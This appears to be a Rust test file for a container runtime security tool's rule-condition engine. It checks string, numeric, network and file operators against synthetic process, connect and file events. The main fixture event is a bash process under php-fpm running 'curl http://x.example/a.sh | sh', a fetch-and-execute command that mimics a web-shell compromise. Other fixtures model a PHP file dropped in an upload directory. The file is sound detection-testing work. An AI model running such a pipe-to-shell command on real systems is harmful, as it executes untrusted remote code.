//! Condition grammar and operators, table-driven: each condition against a fixed event.

use crate::support::{self, compile_clean, connect, exec, fired, rule_yaml};
use podwarden_api::event::Event;

fn check(event: &Event, condition: &str, expected: bool) {
    let set = compile_clean(&[&rule_yaml("t", condition)]);
    let got = !fired(&set, event).is_empty();
    assert_eq!(got, expected, "condition: {condition}");
}

fn shell() -> Event {
    exec(
        "/usr/bin/bash",
        &["bash", "-c", "curl http://x.example/a.sh | sh"],
    )
    .parent("/usr/sbin/php-fpm8.2", &["php-fpm: pool www"])
    .parent(
        "/usr/sbin/php-fpm8.2",
        &["php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"],
    )
    .parent("/usr/bin/tini", &["tini", "--", "php-fpm8.2"])
    .build()
}

#[test]
fn string_operators() {
    let e = shell();
    for (condition, expected) in [
        ("proc.name = bash", true),
        ("proc.name == bash", true),
        ("proc.name = sh", false),
        ("proc.name != sh", true),
        ("proc.name != bash", false),
        ("proc.name in (sh, bash)", true),
        ("proc.name in (sh, zsh)", false),
        ("proc.name in ()", false),
        ("proc.name intersects (bash, x)", true),
        ("proc.name startswith ba", true),
        ("proc.name startswith sh", false),
        ("proc.name endswith sh", true),
        ("proc.cmdline contains \"| sh\"", true),
        ("proc.cmdline contains \"|sh\"", false),
        ("proc.cmdline icontains HTTP://X.EXAMPLE", true),
        ("proc.cmdline glob 'bash -c curl *'", true),
        ("proc.cmdline glob 'bash -c wget *'", false),
        ("proc.cmdline iglob 'BASH -C CURL *'", true),
        ("proc.name regex 'ba.h'", true),
        ("proc.name regex 'a'", false),
        ("proc.cmdline regex '.*curl\\s+http.*'", true),
        ("proc.name bcontains 6173", true),
        ("proc.name bstartswith 6261", true),
        ("proc.name bstartswith 6173", false),
        ("proc.cwd pmatch (/var/www, /srv)", true),
        ("proc.cwd pmatch (/var/ww)", false),
        ("proc.pname exists", true),
        ("proc.aname[9] exists", false),
        ("not proc.aname[9] exists", true),
    ] {
        check(&e, condition, expected);
    }
}

#[test]
fn numeric_and_boolean_operators() {
    let e = shell();
    for (condition, expected) in [
        ("proc.pid = 4242", true),
        ("proc.pid != 4242", false),
        ("proc.pid > 4241", true),
        ("proc.pid > 4242", false),
        ("proc.pid >= 4242", true),
        ("proc.pid < 4243", true),
        ("proc.pid <= 4241", false),
        ("proc.pid in (1, 4242)", true),
        ("user.uid = 33", true),
        ("proc.ppid = 4000", true),
        ("proc.is_exe_from_memfd = false", true),
        ("proc.is_exe_from_memfd = true", false),
        ("proc.is_exe_from_memfd != true", true),
        ("proc.duration > 500000000", true),
        ("proc.duration > 5000000000", false),
        ("proc.cmdnargs = 2", true),
    ] {
        check(&e, condition, expected);
    }
}

#[test]
fn boolean_logic_and_precedence() {
    let e = shell();
    for (condition, expected) in [
        // `and` binds tighter than `or`: true or (false and false).
        ("proc.name = bash or proc.name = sh and proc.pid = 0", true),
        (
            "(proc.name = bash or proc.name = sh) and proc.pid = 0",
            false,
        ),
        // `not` binds tighter than `and`: (not true) and false.
        ("not proc.name = bash and proc.name = sh", false),
        ("not (proc.name = bash and proc.name = sh)", true),
        ("not not proc.name = bash", true),
        ("((proc.name = bash))", true),
        (
            "proc.name = bash and (proc.pid = 1 or proc.pid = 4242)",
            true,
        ),
        ("proc.name = bash\nand proc.pname startswith php-fpm", true),
    ] {
        check(&e, condition, expected);
    }
}

#[test]
fn field_arguments() {
    let e = shell();
    for (condition, expected) in [
        ("proc.aname[0] = bash", true),
        ("proc.aname[1] = php-fpm8.2", true),
        ("proc.aname[2] = php-fpm8.2", true),
        ("proc.aname[3] = tini", true),
        ("proc.aname[1] = tini", false),
        // Bare proc.aname is any ancestor, not the process itself.
        ("proc.aname = tini", true),
        ("proc.aname = bash", false),
        ("proc.aname startswith php-fpm", true),
        ("proc.apid[1] = 4000", true),
        ("proc.aexepath[3] = /usr/bin/tini", true),
        ("proc.acmdline[3] = \"tini -- php-fpm8.2\"", true),
    ] {
        check(&e, condition, expected);
    }
}

#[test]
fn network_fields_and_operators() {
    let e = connect(
        "/usr/bin/curl",
        &["curl", "https://203.0.113.9/"],
        "203.0.113.9:443",
    )
    .build();
    for (condition, expected) in [
        ("evt.type = connect", true),
        ("evt.type in (accept, listen)", false),
        ("fd.sip = 203.0.113.9", true),
        ("fd.sip = \"203.0.113.9\"", true),
        ("fd.rip = 203.0.113.9", true),
        ("fd.cip = 10.1.2.3", true),
        ("fd.lip = 10.1.2.3", true),
        ("fd.sport = 443", true),
        ("fd.cport = 40000", true),
        ("fd.sport in (80, 443)", true),
        ("fd.snet = 203.0.113.0/24", true),
        ("fd.snet in (10.0.0.0/8, 192.168.0.0/16)", false),
        ("fd.net = 10.0.0.0/8", true),
        ("fd.ip = 203.0.113.9", true),
        ("fd.ip != 203.0.113.9", false),
        ("fd.ip != 198.51.100.1", true),
        ("fd.port = 40000", true),
        ("fd.l4proto = tcp", true),
        ("fd.typechar = 4", true),
        ("fd.type = ipv4", true),
        ("fd.name = \"10.1.2.3:40000->203.0.113.9:443\"", true),
        ("fd.connected = true", true),
        ("fd.is_server = false", true),
        ("evt.res = SUCCESS", true),
        ("evt.type = connect and evt.rawres >= 0", true),
        ("fd.directory exists", false),
        ("proc.name = curl", true),
    ] {
        check(&e, condition, expected);
    }
    let pending = connect("/usr/bin/curl", &["curl"], "203.0.113.9:443")
        .syn_sent()
        .build();
    check(
        &pending,
        "evt.type = connect and evt.res = EINPROGRESS and evt.rawres < 0",
        true,
    );
    check(&pending, "fd.connected = true", false);
    let v6 = support::connect("/usr/bin/curl", &["curl"], "[2001:db8::1]:443").build();
    check(
        &v6,
        "fd.typechar = 6 and fd.sip = 2001:db8::1 and fd.snet = \"2001:db8::/32\"",
        true,
    );
}

#[test]
fn file_fields() {
    let e = support::file_created(
        "/usr/sbin/php-fpm8.2",
        &["php-fpm: pool www"],
        "/var/www/html/up/x.php",
    )
    .build();
    for (condition, expected) in [
        ("evt.type = openat and evt.dir = <", true),
        (
            "evt.type in (open, openat, openat2) and evt.is_open_write = true",
            true,
        ),
        ("fd.typechar = f and fd.type = file", true),
        ("fd.name = /var/www/html/up/x.php", true),
        ("fd.directory = /var/www/html/up", true),
        ("fd.filename = x.php", true),
        ("evt.type = openat and fd.num >= 0", true),
        ("fd.name pmatch (/var/www)", true),
        ("podwarden.file.size = 120", true),
        ("podwarden.event.kind = file_created", true),
        ("fd.sip exists", false),
    ] {
        check(&e, condition, expected);
    }
    let renamed = support::file_renamed(
        "/bin/mv",
        &["mv", "a", "b"],
        "/var/www/a.txt",
        "/var/www/a.php",
    )
    .build();
    check(
        &renamed,
        "evt.type = rename and evt.arg.oldpath = /var/www/a.txt and evt.arg.newpath = /var/www/a.php and fd.name = /var/www/a.php",
        true,
    );
}
